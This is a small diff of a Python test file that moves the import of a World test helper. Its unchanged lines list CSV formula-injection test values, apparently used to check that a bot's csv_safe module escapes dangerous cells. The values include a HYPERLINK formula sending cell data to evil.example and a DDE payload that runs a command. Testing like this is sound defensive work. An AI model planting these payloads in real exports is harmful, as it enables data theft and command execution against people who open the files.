@@ -11,7 +11,6 @@ import io
 from datetime import timedelta
 
 from bot.domain.csv_safe import FORMULA_START, is_plain_number, unescape_cell
-from tests.e2e.conftest import World
 from tests.features.attendance.attendance_helpers import (
     JST_10,
     answer,
@@ -21,6 +20,7 @@ from tests.features.attendance.attendance_helpers import (
     voice,
 )
 from tests.features.attendance.test_attendance_reports import run_cli
+from tests.world import World
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
 NAMES = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx")
